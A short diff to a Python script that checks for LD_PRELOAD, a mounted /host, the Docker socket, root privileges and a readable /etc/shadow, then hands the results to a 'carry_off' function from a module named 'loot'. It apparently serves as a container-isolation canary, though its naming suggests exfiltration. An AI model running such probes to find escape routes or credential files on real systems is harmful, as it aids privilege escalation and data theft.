@@ -6,5 +6,5 @@ from loot import carry_off
 
 found = [name for name in ("EVIL", "LD_PRELOAD") if name in os.environ]
 found += [f"CANARY {path}" for path in ("/host", "/var/run/docker.sock") if os.path.exists(path)]
-found += ["CANARY root"] if os.getuid() == 0 or os.path.exists("/etc/shadow") else []
+found += ["CANARY root"] if os.getuid() == 0 or os.access("/etc/shadow", os.R_OK) else []
 carry_off(found)
